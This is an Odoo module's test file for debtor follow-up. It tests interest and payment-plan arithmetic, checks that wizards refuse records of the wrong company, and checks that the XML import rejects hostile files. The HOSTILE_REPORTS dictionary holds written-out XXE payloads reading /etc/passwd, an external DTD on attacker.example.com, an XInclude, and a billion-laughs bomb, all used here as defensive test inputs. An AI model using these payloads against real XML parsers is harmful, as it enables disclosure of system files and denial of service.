"""Bad input: random figures, hostile files and records of the wrong company or type.

Property-based cases use hypothesis with a fixed seed (``derandomize``), no example database and no deadline, so
that every run checks the same examples and a slow shared machine does not make them flaky.
"""

import base64
import contextlib
import math
import os
import unittest
from datetime import date
from datetime import timedelta
from decimal import Decimal

from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from odoo import Command
from odoo.exceptions import AccessError
from odoo.exceptions import UserError
from odoo.exceptions import ValidationError
from odoo.tests import BaseCase
from odoo.tests import new_test_user
from odoo.tests import tagged

from ..models.debtor_payment_plan import FREQUENCIES
from ..models.debtor_payment_plan import split_amount
from ..tools import credit_report
from ..tools import handover_file
from ..tools import late_payment
from .common import DebtorFollowupCommon
from .common import billion_laughs

CSV_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)), "data", "debtor.reference.rate.csv")
SAMPLE_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)), "data", "samples", "credit_report_good.xml")


def examples(count):
    """Hypothesis settings: ``count`` examples, the same ones every run."""
    return settings(max_examples=count, deadline=None, database=None, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def cents(amount):
    """An amount in whole cents (avoids float comparisons)."""
    return round(Decimal(str(amount)) * 100)


# money in cents, dates the shipped rate tables cover
AMOUNTS = st.decimals(min_value=Decimal("0.00"), max_value=Decimal("2000000.00"), places=2)
DUE_DATES = st.dates(min_value=date(2019, 1, 1), max_value=date(2025, 12, 31))
RULES = st.sampled_from(sorted(late_payment.RULES))
ORDERS = st.permutations(late_payment.ORDER_COSTS_FIRST).map(tuple)


@tagged("post_install", "-at_install")
class TestLatePaymentProperties(BaseCase):
    """Interest, costs and payment allocation keep their invariants for any amount, date and payment."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.tables = late_payment.read_rate_csv(CSV_PATH)

    def _rates(self, rule):
        return self.tables[late_payment.get_rule(rule).rate_type]

    @examples(60)
    @given(rule=RULES, principal=AMOUNTS, due=DUE_DATES, days=st.integers(0, 1500), more_days=st.integers(0, 400),
           more_principal=AMOUNTS)
    def test_interest_non_negative_in_cents_and_monotonic(self, rule, principal, due, days, more_days,
                                                         more_principal):
        rates = self._rates(rule)
        result = late_payment.compute_interest(rule, principal, due, due + timedelta(days=days), rates)
        self.assertGreaterEqual(result.total, 0)
        self.assertEqual(result.total, sum((line.amount for line in result.lines), Decimal(0)))
        for line in result.lines:
            self.assertEqual(line.amount, line.amount.quantize(Decimal("0.01")), "every period is in cents")
            self.assertGreaterEqual(line.amount, 0)
        if principal:
            self.assertEqual(result.days, days, "interest runs from the day after the due date to the last day")
        later = late_payment.compute_interest(rule, principal, due, due + timedelta(days=days + more_days), rates)
        self.assertGreaterEqual(later.total, result.total, "more days never give less interest")
        larger = late_payment.compute_interest(rule, principal + more_principal, due, due + timedelta(days=days),
                                               rates)
        self.assertGreaterEqual(larger.total, result.total, "a larger debt never gives less interest")

    @examples(60)
    @given(rule=RULES, principal=AMOUNTS, more=AMOUNTS, vat=st.one_of(st.none(), st.integers(0, 30)))
    def test_costs_non_negative_in_cents_and_monotonic(self, rule, principal, more, vat):
        vat = vat if rule == "nl" else None
        costs = late_payment.fixed_compensation(rule, principal, vat_rate=vat)
        larger = late_payment.fixed_compensation(rule, principal + more, vat_rate=vat)
        for result in (costs, larger):
            self.assertGreaterEqual(result.amount, 0)
            self.assertEqual(result.total, result.amount + result.vat)
            self.assertEqual(result.total, result.total.quantize(Decimal("0.01")))
        self.assertGreaterEqual(larger.total, costs.total, "a larger debt never costs less")
        if rule == "nl" and principal:
            self.assertTrue(40 <= costs.amount <= 6775, "WIK costs stay between EUR 40 and EUR 6,775")

    @examples(80)
    @given(amount=AMOUNTS, principal=AMOUNTS, interest=AMOUNTS, costs=AMOUNTS, order=ORDERS)
    def test_allocation_sums_to_the_payment_in_order(self, amount, principal, interest, costs, order):
        result = late_payment.allocate(amount, principal, interest, costs, order=order)
        parts = {"costs": result.costs, "interest": result.interest, "principal": result.principal}
        self.assertEqual(sum(parts.values()) + result.unallocated, amount, "the payment is allocated exactly")
        owed = {"costs": costs, "interest": interest, "principal": principal}
        for bucket, part in parts.items():
            self.assertTrue(0 <= part <= owed[bucket], f"{bucket}: {part} of {owed[bucket]}")
        # a bucket is only paid once every bucket before it in the order is paid in full
        for index, bucket in enumerate(order[1:], start=1):
            if parts[bucket]:
                for earlier in order[:index]:
                    self.assertEqual(parts[earlier], owed[earlier])
        self.assertGreaterEqual(result.unallocated, 0)
        if result.unallocated:
            self.assertEqual(parts, owed, "only what exceeds the whole debt is left unallocated")

    @examples(50)
    @given(rule=RULES, principal=AMOUNTS, costs=st.decimals(min_value=0, max_value=500, places=2), due=DUE_DATES,
           days=st.integers(0, 900),
           payments=st.lists(st.tuples(st.integers(0, 900), st.decimals(min_value=0, max_value=50000, places=2)),
                             max_size=6))
    def test_dated_payments_are_allocated_exactly(self, rule, principal, costs, due, days, payments):
        until = due + timedelta(days=days)
        dated = [(due + timedelta(days=min(offset, days)), amount) for offset, amount in payments]
        result = late_payment.allocate_payments(rule, principal, due, until, self._rates(rule), payments=dated,
                                                costs=costs)
        paid = sum((amount for _day, amount in dated), Decimal(0))
        allocated = result.allocations
        self.assertEqual(sum((a.costs + a.interest + a.principal + a.unallocated for a in allocated), Decimal(0)),
                         paid, "every payment is allocated to the cent")
        self.assertEqual(result.principal, principal - sum((a.principal for a in allocated), Decimal(0)))
        self.assertEqual(result.costs, costs - sum((a.costs for a in allocated), Decimal(0)))
        self.assertEqual(result.interest, result.interest_accrued - sum((a.interest for a in allocated), Decimal(0)))
        for balance in (result.principal, result.interest, result.costs, result.unallocated):
            self.assertGreaterEqual(balance, 0)
        if result.unallocated:
            self.assertEqual(result.total_due, 0, "a surplus only remains once everything is paid")

    @examples(40)
    @given(rule=RULES, negative=st.decimals(max_value=Decimal("-0.01"), min_value=-10**9, places=2),
           due=DUE_DATES, days_before=st.integers(1, 400))
    def test_nonsense_is_refused(self, rule, negative, due, days_before):
        rates = self._rates(rule)
        with self.assertRaises(ValueError):
            late_payment.compute_interest(rule, negative, due, due + timedelta(days=5), rates)
        with self.assertRaises(ValueError):
            late_payment.compute_interest(rule, 100, due, due - timedelta(days=days_before), rates)
        with self.assertRaises(ValueError):
            late_payment.allocate(negative, 100)
        with self.assertRaises(ValueError):
            late_payment.allocate_payments(rule, 100, due, due, rates, payments=[(due + timedelta(days=1), 10)])
        for nonsense in ("NaN", "Infinity", "ten", None, True):
            with self.assertRaises(ValueError):
                late_payment.fixed_compensation(rule, nonsense)


@tagged("post_install", "-at_install")
class TestPlanScheduleProperties(DebtorFollowupCommon):
    """Payment plan schedules: any valid terms give installments that sum exactly to the plan total; invalid terms
    are refused and leave nothing behind."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.invoices = {
            amount: cls._invoice(cls.customer, amount, "2025-12-01", due_date="2026-01-01")
            for amount in (0.07, 1.0, 999.99, 1000.0, 123456.78)
        }
        cls.currency = cls.company.currency_id

    def _footprint(self):
        return (self.env["debtor.payment.plan"].search_count([]),
                self.env["debtor.payment.plan.line"].search_count([]))

    @contextlib.contextmanager
    def _discarded(self):
        """Run an example in a savepoint that is always rolled back, so examples do not see each other."""
        with contextlib.closing(self.env.cr.savepoint()):
            yield

    def test_split_amount_pure(self):
        """The splitting function alone, for any rounding, total and count."""

        @examples(300)
        @given(rounding=st.sampled_from([0.01, 0.05, 1.0, 0.001]), units=st.integers(1, 10**9),
               count=st.integers(1, 120))
        def check(rounding, units, count):
            total = units * rounding
            if units < count:
                return  # fewer units than installments: the plan refuses it (see the model test)
            amounts = split_amount(total, count, rounding)
            self.assertEqual(len(amounts), count)
            in_units = [round(amount / rounding) for amount in amounts]
            for amount, unit in zip(amounts, in_units):
                self.assertTrue(math.isclose(amount, unit * rounding, abs_tol=rounding / 1000),
                                f"{amount} is not a multiple of {rounding}")
                self.assertGreater(unit, 0)
            self.assertEqual(sum(in_units), units, "the installments sum exactly to the total")
            self.assertEqual(len(set(in_units[:-1])), min(1, count - 1), "all but the last are equal")
            self.assertGreaterEqual(in_units[-1], in_units[0], "the remainder goes on the last one")

        check()
        # found by the above: float division floored 0.30 / 3 to 0.09 (0.09, 0.09, 0.12; 0.29 / 29 gave zeros)
        self.assertEqual(split_amount(0.30, 3, 0.01), [0.1, 0.1, 0.1])
        self.assertEqual(split_amount(0.29, 29, 0.01), [0.01] * 29)

    @examples(60)
    @given(data=st.data())
    def test_any_valid_terms_sum_exactly(self, data):
        invoice_amount = data.draw(st.sampled_from(sorted(self.invoices)), label="invoice")
        fee = data.draw(st.integers(0, 10**7), label="fee cents") / 100
        total_cents = cents(invoice_amount) + cents(fee)
        split_mode = data.draw(st.sampled_from(["count", "amount"]), label="split")
        count = data.draw(st.integers(1, min(48, total_cents)), label="count")
        # the down payment leaves at least a cent per installment
        down = data.draw(st.integers(0, total_cents - count), label="down cents") / 100
        rest_cents = total_cents - cents(down)
        installment = data.draw(st.integers(-(-rest_cents // 60), rest_cents), label="installment cents") / 100
        agreed = data.draw(st.dates(min_value=date(2020, 1, 1), max_value=date(2035, 12, 31)), label="agreed")
        first = agreed + timedelta(days=data.draw(st.integers(0, 400), label="first due after"))
        frequency = data.draw(st.sampled_from([code for code, _label in FREQUENCIES]), label="frequency")
        with self._discarded():
            plan = self.env["debtor.payment.plan"].with_user(self.controller).create({
                "partner_id": self.customer.id, "move_ids": [Command.set(self.invoices[invoice_amount].ids)],
                "fee_amount": fee, "down_payment": down, "split_mode": split_mode, "installment_count": count,
                "installment_amount": installment, "frequency": frequency, "date": agreed,
                "first_due_date": first})
            lines = plan.line_ids.sorted("sequence")
            self.assertEqual(cents(plan.amount_total), total_cents)
            self.assertEqual(sum(cents(line.amount) for line in lines), total_cents,
                             "the installments sum exactly to the plan total")
            for line in lines:
                self.assertEqual(self.currency.round(line.amount), line.amount, "rounded to the currency")
                self.assertGreater(cents(line.amount), 0, "no installment is zero or negative")
            installments = lines.filtered(lambda line: not line.is_down_payment)
            if split_mode == "count":
                self.assertEqual(len(installments), count)
            else:
                self.assertTrue(all(cents(line.amount) <= cents(installment) for line in installments))
            due_dates = installments.mapped("due_date")
            self.assertEqual(due_dates, sorted(set(due_dates)), "installment due dates strictly increase")
            self.assertEqual(due_dates[0], first)
            if down:
                self.assertEqual(lines[0].is_down_payment, True)
                self.assertEqual((cents(lines[0].amount), lines[0].due_date), (cents(down), agreed))
                self.assertLessEqual(lines[0].due_date, due_dates[0])
            self.assertEqual(len(set(lines.mapped("reference"))), len(lines), "one payment reference each")

    @examples(60)
    @given(data=st.data())
    def test_invalid_terms_are_refused_and_change_nothing(self, data):
        kind = data.draw(st.sampled_from(
            ["negative fee", "negative down", "count", "installment amount", "down too large",
             "more installments than cents"]), label="kind")
        # (more installments than cents: on the small invoices, not to generate a million lines)
        amounts = sorted(self.invoices) if kind != "more installments than cents" else [0.07, 1.0]
        invoice_amount = data.draw(st.sampled_from(amounts), label="invoice")
        total_cents = cents(invoice_amount)
        vals = {"installment_count": 3, "split_mode": "count"}
        if kind == "negative fee":
            vals["fee_amount"] = -data.draw(st.integers(1, 10**8)) / 100
        elif kind == "negative down":
            vals["down_payment"] = -data.draw(st.integers(1, 10**8)) / 100
        elif kind == "count":
            vals["installment_count"] = data.draw(st.integers(-1000, 0))
        elif kind == "installment amount":
            vals.update(split_mode="amount", installment_amount=-data.draw(st.integers(0, 10**8)) / 100)
        elif kind == "down too large":
            vals["down_payment"] = data.draw(st.integers(total_cents, total_cents + 10**8)) / 100
        else:
            vals["installment_count"] = data.draw(st.integers(total_cents + 1, total_cents + 50))
        before = self._footprint()
        with self.assertRaises(UserError):  # ValidationError included
            self.env["debtor.payment.plan"].with_user(self.controller).create({
                "partner_id": self.customer.id, "move_ids": [Command.set(self.invoices[invoice_amount].ids)],
                "date": "2026-01-10", "first_due_date": "2026-01-31", **vals})
        self.assertEqual(self._footprint(), before)

    def test_a_schedule_not_summing_to_the_debt_is_refused(self):
        plan = self.env["debtor.payment.plan"].with_user(self.controller).create({
            "partner_id": self.customer.id, "move_ids": [Command.set(self.invoices[1000.0].ids)],
            "date": "2026-01-10", "first_due_date": "2026-01-31", "installment_count": 4})
        schedule = [(line.due_date, line.amount) for line in plan.line_ids]

        @examples(30)
        @given(index=st.integers(0, 3), delta=st.integers(-25000, 25000).filter(bool))
        def check(index, delta):
            line = plan.line_ids.sorted("sequence")[index]
            with self.assertRaisesRegex(UserError, "change only through"):  # with their plan only (test_controls)
                line.with_user(self.controller).amount = line.amount + delta / 100
            with self.assertRaises(ValidationError):  # and the sum holds even for the superuser
                line.sudo().amount = line.amount + delta / 100
            self.assertEqual([(line.due_date, line.amount) for line in plan.line_ids], schedule)

        check()


def _good_report():
    with open(SAMPLE_PATH, "rb") as sample:
        return sample.read()


HOSTILE_REPORTS = {
    "external entity": b"""<?xml version="1.0"?>
<!DOCTYPE creditReport [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<creditReport xmlns="urn:debtor-followup:credit-report:1" version="1"><reportId>&x;</reportId></creditReport>""",
    "external DTD": b"""<?xml version="1.0"?>
<!DOCTYPE creditReport SYSTEM "http://attacker.example.com/evil.dtd">
<creditReport xmlns="urn:debtor-followup:credit-report:1" version="1"/>""",
    "parameter entity": b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>
<creditReport xmlns="urn:debtor-followup:credit-report:1"/>""",
    "billion laughs": billion_laughs(),
    "DOCTYPE in UTF-16": '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM '
                         '"file:///etc/passwd">]><creditReport xmlns="urn:debtor-followup:credit-report:1">'
                         '&x;</creditReport>'.encode("utf-16"),
    "XInclude": b"""<?xml version="1.0"?>
<creditReport xmlns="urn:debtor-followup:credit-report:1" xmlns:xi="http://www.w3.org/2001/XInclude" version="1">
<xi:include href="file:///etc/passwd" parse="text"/></creditReport>""",
    "wrong namespace": _good_report().replace(b"urn:debtor-followup:credit-report:1", b"urn:someone-else:report:9"),
    "no namespace": _good_report().replace(b' xmlns="urn:debtor-followup:credit-report:1"', b""),
    "truncated": _good_report()[: len(_good_report()) // 2],
    "not XML": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj",
    "Latin-1 bytes declared as UTF-8": _good_report().replace(b"Example Credit Agency", b"Agence \xe9\xe8 Cr\xe9dit"),
    "huge text": _good_report().replace(b"<reportId>", b"<reportId>" + b"A" * (2 * 1024 * 1024)),
    "huge text under the size limit": _good_report().replace(b"<reportId>", b"<reportId>" + b"A" * 900_000),
    "empty": b"",
    "whitespace": b" \n\t ",
}


@tagged("post_install", "-at_install")
class TestHostileCreditReports(DebtorFollowupCommon):
    """Malformed and hostile credit reports are refused with a clear message, and nothing is written."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.exemple = cls._exemple_partner()
        cls.debtor = cls.env["debtor.customer"]._credit_file(cls.exemple, cls.company)

    def _written(self):
        return (self.env["debtor.credit.check"].search_count([]),
                self.env["ir.attachment"].search_count([("res_model", "=", "debtor.credit.check")]),
                self.env["mail.message"].search_count([]))

    def _import(self, data=None, encoded=None):
        wizard = self.env["debtor.credit.report.import"].with_user(self.controller).create({
            "customer_id": self.debtor.id, "report_file": encoded if encoded is not None else base64.b64encode(data),
            "report_filename": "report.xml"})
        return wizard.action_import()

    def assertRefusedBeforeWriting(self, **kwargs):
        """The import raises a UserError naming the problem, before anything is written (no rollback needed)."""
        before = self._written()
        with unittest.TestCase.assertRaises(self, UserError) as catcher:
            self._import(**kwargs)
        self.env.flush_all()
        self.assertEqual(self._written(), before, "nothing is written")
        return str(catcher.exception)

    def test_hostile_files(self):
        reasons = {
            "external entity": "DOCTYPE declarations are not allowed",
            "external DTD": "DOCTYPE declarations are not allowed",
            "parameter entity": "DOCTYPE declarations are not allowed",
            "billion laughs": "DOCTYPE declarations are not allowed",
            "DOCTYPE in UTF-16": "DOCTYPE declarations are not allowed",
            "XInclude": "does not match the credit report schema",
            "wrong namespace": "does not match the credit report schema",
            "no namespace": "does not match the credit report schema",
            "truncated": "not well-formed XML",
            "not XML": "not well-formed XML",
            "Latin-1 bytes declared as UTF-8": "not well-formed XML",
            "huge text": "too large",
            "huge text under the size limit": "does not match the credit report schema",
            "empty": "empty",
            "whitespace": "empty",
        }
        self.assertEqual(reasons.keys(), HOSTILE_REPORTS.keys())
        for name, data in HOSTILE_REPORTS.items():
            with self.subTest(name):
                message = self.assertRefusedBeforeWriting(data=data)
                self.assertIn("was refused", message)
                self.assertIn(reasons[name], message)
                self.assertNotIn("root:", message, "no local file is ever read")
                self.assertLess(len(message), 5000, "the message stays readable")
        # the sample itself is fine: the refusals above are about the hostile parts
        self._import(data=_good_report())

    def test_damaged_upload(self):
        for encoded in (b"not base64 at all!", b"QUJD=ZZ", "é".encode()):
            with self.subTest(encoded=encoded):
                self.assertIn("upload is damaged", self.assertRefusedBeforeWriting(encoded=encoded))

    @examples(40)
    @given(data=st.binary(max_size=3000))
    def test_random_bytes_are_refused(self, data):
        with self.assertRaises(credit_report.CreditReportError):
            credit_report.parse_credit_report(data)

    @examples(40)
    @given(cut=st.integers(0, len(_good_report().rstrip()) - 1), flip=st.one_of(st.none(), st.integers(0, 255)))
    def test_truncated_reports_are_refused(self, cut, flip):
        data = _good_report().rstrip()[:cut]
        if flip is not None and data:
            data = data[:-1] + bytes([flip])
        if data == _good_report().rstrip():
            return  # a flip that restores the last byte gives the report back
        self.assertIn("was refused", self.assertRefusedBeforeWriting(data=data))


@tagged("post_install", "-at_install")
class TestWizardsRefuseWrongRecords(DebtorFollowupCommon):
    """Every wizard refuses a record of another company, of another customer or of the wrong type."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_b = cls.setup_other_company(name="Company B")["company"]
        cls.invoice = cls._invoice(cls.customer, 300.0, "2025-11-01", due_date="2025-12-01")
        Debtor = cls.env["debtor.customer"]
        cls.debtor = Debtor.search([("partner_id", "=", cls.customer.id), ("company_id", "=", cls.company.id)])
        cls.invoice_b = cls._invoice(cls.customer, 200.0, "2025-11-01", due_date="2025-12-01", company=cls.company_b)
        cls.debtor_b = Debtor.search([("partner_id", "=", cls.customer.id), ("company_id", "=", cls.company_b.id)])
        cls.other_invoice = cls._invoice(cls.customer_b, 100.0, "2025-11-01", due_date="2025-12-01")
        cls.bill = cls._invoice(cls.customer, 80.0, "2025-11-01", due_date="2025-12-01", move_type="in_invoice")
        cls.draft = cls.env["account.move"].create({
            "move_type": "out_invoice", "partner_id": cls.customer.id, "invoice_date": "2025-11-01",
            "invoice_line_ids": [Command.create({"name": "Draft", "quantity": 1, "price_unit": 40.0,
                                                 "tax_ids": []})]})
        cls.credit_note = cls._invoice(cls.customer, 30.0, "2025-11-01", move_type="out_refund")
        # a controller of both companies, working in company A
        cls.controller_ab = new_test_user(
            cls.env, login="debtor_controller_ab", groups="debtor_followup.group_debtor_controller",
            company_id=cls.company.id, company_ids=[Command.set((cls.company | cls.company_b).ids)])

    def _lines(self, moves):
        return moves.line_ids.filtered(lambda line: line.account_type in ("asset_receivable", "liability_payable"))

    def _footprint(self):
        models = ["debtor.followup.action", "debtor.promise", "debtor.payment.plan", "debtor.dispute",
                  "debtor.credit.check", "mail.mail", "mail.message", "mail.activity"]
        return {model: self.env[model].sudo().search_count([]) for model in models} | {
            "postponed": self.debtor.sudo().postponed_until, "postponed_b": self.debtor_b.sudo().postponed_until,
            "levels": tuple(self._lines((self.invoice | self.invoice_b).sudo()).mapped("debtor_level_id").ids)}

    @contextlib.contextmanager
    def assertRefused(self, exception, *fragments, before_writing=False):
        """The block raises ``exception`` (with ``fragments`` in its message) and leaves the database as it was.

        With ``before_writing`` the refusal must come before any write (no savepoint rolls it back); otherwise it
        may come from a constraint checked after the write, which the request's transaction rolls back.
        """
        self.env.flush_all()
        before = self._footprint()
        assert_raises = unittest.TestCase.assertRaises if before_writing else type(self).assertRaises
        with assert_raises(self, exception) as catcher:
            yield catcher
        for fragment in fragments:
            self.assertIn(fragment, str(catcher.exception))
        self.env.flush_all()
        self.env.invalidate_all()
        self.assertEqual(self._footprint(), before, "nothing is written")

    # ----------------------------------------------------------------- send / preview
    def test_send_wizard(self):
        Send = self.env["debtor.followup.send"]
        with self.assertRefused(AccessError):
            Send.with_user(self.controller).create({"customer_id": self.debtor_b.id}).action_send()
        cases = {"another customer's invoice": self.other_invoice, "company B's invoice": self.invoice_b,
                 "a vendor bill": self.bill}
        for case, moves in cases.items():
            with self.subTest(case):
                wizard = Send.with_user(self.controller_ab).create({"customer_id": self.debtor.id})
                wizard.line_ids = self._lines(self.invoice | moves)
                with self.assertRefused(UserError, "Only the open receivable items of Slow Payer Ltd", moves.name,
                                        before_writing=True):
                    wizard.action_send()
        wizard = Send.with_user(self.controller).create({"customer_id": self.debtor.id})
        wizard.line_ids = self.draft.line_ids.filtered(lambda line: line.account_type == "asset_receivable")
        with self.assertRefused(UserError, "Only the open receivable items", before_writing=True):
            wizard.action_send_and_print()
        wizard.line_ids = False
        with self.assertRefused(UserError, "Choose the items", before_writing=True):
            wizard.action_send()

    # ----------------------------------------------------------------- promise
    def test_promise_wizard(self):
        Promise = self.env["debtor.promise.wizard"]
        with self.assertRefused(AccessError):
            Promise.with_user(self.controller).create({"customer_id": self.debtor_b.id, "date": "2099-01-01",
                                                        "amount": 10.0}).action_confirm()
        for case, moves in {"another customer's invoice": self.other_invoice, "company B's invoice": self.invoice_b,
                            "a vendor bill": self.bill}.items():
            with self.subTest(case):
                wizard = Promise.with_user(self.controller_ab).create({
                    "customer_id": self.debtor.id, "date": "2099-01-01", "amount": 10.0,
                    "line_ids": [Command.set(self._lines(moves).ids)]})
                with self.assertRefused(ValidationError, "Slow Payer Ltd"):
                    wizard.action_confirm()
        wizard = Promise.with_user(self.controller).create({"customer_id": self.debtor.id, "date": "2099-01-01"})
        for vals, fragment in (({"amount": -5.0}, "must be positive"), ({"amount": 0.0}, "must be positive"),
                               ({"amount": 10.0, "date": "2000-01-01"}, "today or a later date"),
                               ({"amount": 10.0, "date": "2099-01-01", "line_ids": False}, "Choose the items")):
            with self.subTest(vals=vals):
                wizard.write(vals)
                with self.assertRefused(UserError, fragment, before_writing=True):
                    wizard.action_confirm()

    # ----------------------------------------------------------------- log a call / postpone
    def test_log_wizard(self):
        Log = self.env["debtor.followup.log"]
        with self.assertRefused(AccessError):
            Log.with_user(self.controller).create({"customer_id": self.debtor_b.id, "kind": "postpone",
                                                    "postpone_until": "2099-01-01"}).action_confirm()
        for vals, fragment in (({"kind": "call"}, "outcome"),
                               ({"kind": "postpone"}, "Choose the date"),
                               ({"kind": "postpone", "postpone_until": "2000-01-01"}, "later date than today")):
            with self.subTest(vals=vals), self.assertRefused(UserError, fragment, before_writing=True):
                Log.with_user(self.controller).create({"customer_id": self.debtor.id, **vals}).action_confirm()

    # ----------------------------------------------------------------- payment plan
    def test_payment_plan_wizard(self):
        Wizard = self.env["debtor.payment.plan.wizard"]
        with self.assertRefused(UserError, "one customer", before_writing=True):
            Wizard.with_user(self.controller).with_context(
                active_model="account.move", active_ids=(self.invoice | self.other_invoice).ids).create({})
        with self.assertRefused(UserError, "one company", before_writing=True):
            Wizard.with_user(self.controller_ab).with_context(
                active_model="account.move", active_ids=(self.invoice | self.invoice_b).ids).create({})
        with self.assertRefused(AccessError):
            Wizard.with_user(self.controller).with_context(
                active_model="debtor.customer", active_id=self.debtor_b.id).create({}).action_create()
        cases = {
            "a vendor bill": (self.bill, "not a posted customer invoice"),
            "a draft invoice": (self.draft, "not a posted customer invoice"),
            "a credit note": (self.credit_note, "not a posted customer invoice"),
            "another customer's invoice": (self.other_invoice, "not of Slow Payer Ltd"),
            "company B's invoice": (self.invoice_b, "not to the plan's company"),
        }
        for case, (moves, fragment) in cases.items():
            with self.subTest(case):
                wizard = Wizard.with_user(self.controller_ab).create({
                    "partner_id": self.customer.id, "company_id": self.company.id,
                    "move_ids": [Command.set((self.invoice | moves).ids)], "send_proposal": True})
                with self.assertRefused(UserError, fragment):  # ValidationError included
                    wizard.action_create()

    # ----------------------------------------------------------------- credit report import
    def test_credit_report_import_wizard(self):
        Import = self.env["debtor.credit.report.import"]
        report = base64.b64encode(_good_report())
        with self.assertRefused(AccessError):
            Import.with_user(self.controller).create({
                "customer_id": self.debtor_b.id, "report_file": report}).action_import()
        # the right file for the wrong customer
        with self.assertRefused(UserError, "cannot be Slow Payer Ltd", before_writing=True):
            Import.with_user(self.controller).create({
                "customer_id": self.debtor.id, "report_file": report}).action_import()

    # ----------------------------------------------------------------- dispute (raised from the invoice)
    def test_dispute_on_the_wrong_move(self):
        Dispute = self.env["debtor.dispute"].with_user(self.controller)
        reason = self.env.ref("debtor_followup.dispute_reason_other")
        for case, move in {"a vendor bill": self.bill, "a draft invoice": self.draft,
                           "a credit note": self.credit_note}.items():
            with self.subTest(case), self.assertRefused(ValidationError, "Only posted customer invoices"):
                Dispute.create({"move_id": move.id, "reason_id": reason.id, "disputed_amount": 10.0})
        with self.assertRefused(AccessError):
            Dispute.create({"move_id": self.invoice_b.id, "reason_id": reason.id})
        with self.assertRefused(ValidationError, "more than"):
            Dispute.create({"move_id": self.invoice.id, "reason_id": reason.id, "disputed_amount": 300.01})


class TestHostileHandoverFiles(BaseCase):
    """The handover file checker (run on every file before it is offered) never resolves, fetches nor expands."""

    def test_hostile_files_are_refused_without_reading_anything(self):
        hostile = {name: data.replace(b"creditReport", b"handover").replace(b"credit-report", b"handover")
                   for name, data in HOSTILE_REPORTS.items() if name not in ("DOCTYPE in UTF-16", "wrong namespace")}
        for name, data in hostile.items():
            with self.subTest(name):
                with self.assertRaises(handover_file.HandoverFileError) as catcher:
                    handover_file.validate_xml(data)
                message = str(catcher.exception)
                self.assertTrue(message.startswith(("The handover file is not well-formed XML.",
                                                    "The handover file does not match the handover schema.")))
                self.assertNotIn("root:", message, "no local file is ever read")
                self.assertNotIn("lollol", message, "no entity is ever expanded")
